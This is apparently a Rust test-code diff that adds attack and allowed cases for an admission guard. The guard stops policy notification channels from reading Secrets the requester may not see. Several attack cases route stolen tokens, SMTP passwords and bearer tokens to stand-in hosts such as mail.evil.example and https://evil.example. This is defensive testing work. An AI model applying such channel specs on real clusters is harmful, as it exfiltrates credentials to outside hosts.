@@ -88,6 +88,59 @@ pub fn logs() -> Family {
     }
 }
 
+fn channels(channels: &[Value]) -> Value {
+    spec(&json!({"notifications": {"channels": channels}}))
+}
+
+/// A channel whose address stands in this Secret.
+fn hook(name: &str, secret: &str) -> Value {
+    json!({"name": name, "teams": {"webhook": {"name": secret, "key": "url"}}})
+}
+
+/// The Secrets that the controller reads for the channels of a policy, and where it sends what it has read.
+pub fn secrets() -> Family {
+    let one = Expect::Guard(GUARD, "may not get the Secret stolen in namespace");
+    let token = Expect::Guard(GUARD, "may not get the Secret known in namespace");
+    let many = Expect::Guard(GUARD, "may not get Secrets in namespace");
+    // As the stage has it.
+    let kept = || {
+        let mut kept = hook("known", "known");
+        kept["on"] = json!({"events": ["ReviewOverdue"]});
+        kept
+    };
+    let pager =
+        json!({"name": "pager", "pagerDuty": {"routingKey": {"name": "stolen", "key": "key"}}});
+    let bearer = |url: &str| json!({"name": "alerts", "alertmanager": {"urls": [url], "bearerToken": {"name": "known", "key": "token"}}});
+    let mail = json!({"name": "mail", "email": {
+        "server": "mail.evil.example", "from": "a@evil.example", "to": ["b@evil.example"],
+        "username": {"name": "stolen", "key": "user"}, "password": {"name": "stolen", "key": "password"},
+    }});
+    let signed = json!({"name": "hook", "webhook": {
+        "url": {"name": "mine", "key": "url"}, "signingKey": {"name": "stolen", "key": "key"},
+    }});
+    let bot = json!({"name": "slack", "slack": {"botToken": {"name": "stolen", "key": "token"}, "channel": "C0123ABCD"}});
+    let elsewhere = bearer("https://evil.example");
+    Family {
+        name: "policy-secrets",
+        attacks: rows! {
+            "another Secret", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY, MERGE.dry()], ITS, channels(&[kept(), hook("new", "stolen")]), one;
+            "a routing key", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(&[kept(), pager.clone()]), one;
+            "a password", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(std::slice::from_ref(&mail)), one;
+            "a bot", &[POLICY_ADMIN], &[MERGE], ITS, channels(&[bot]), one;
+            "a Secret to sign with", &[POLICY_ADMIN], &[MERGE], ITS, channels(&[signed]), many;
+            "the same name, another Secret", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(&[hook("known", "stolen")]), one;
+            "a known token to another address", &[POLICY_ADMIN], &[MERGE, JSON, PUT], ITS, channels(&[kept(), elsewhere.clone()]), token;
+            "several", &[POLICY_ADMIN], &[MERGE], ITS, channels(&[hook("a", "stolen"), hook("b", "other")]), many;
+        },
+        twins: twins! {
+            "as it was", &[POLICY_ADMIN, RELAXER], &[MERGE, JSON, PUT, APPLY], ITS, channels(&[kept()]);
+            "no channel", &[POLICY_ADMIN], &[MERGE, JSON], ITS, channels(&[]);
+            "one without a Secret", &[POLICY_ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, channels(&[kept(), json!({"name": "alerts", "alertmanager": {"urls": ["http://alertmanager:9093"]}})]);
+            "by who may read them", &[KEEPER, OWNER, ADMIN], &[MERGE, JSON, PUT, APPLY], ITS, channels(&[kept(), pager, mail, elsewhere]);
+        },
+    }
+}
+
 /// Fewer or weaker approvals.
 pub fn relaxing() -> Family {
     let relax = Expect::Guard(GUARD, "may not relax approvals in namespace");
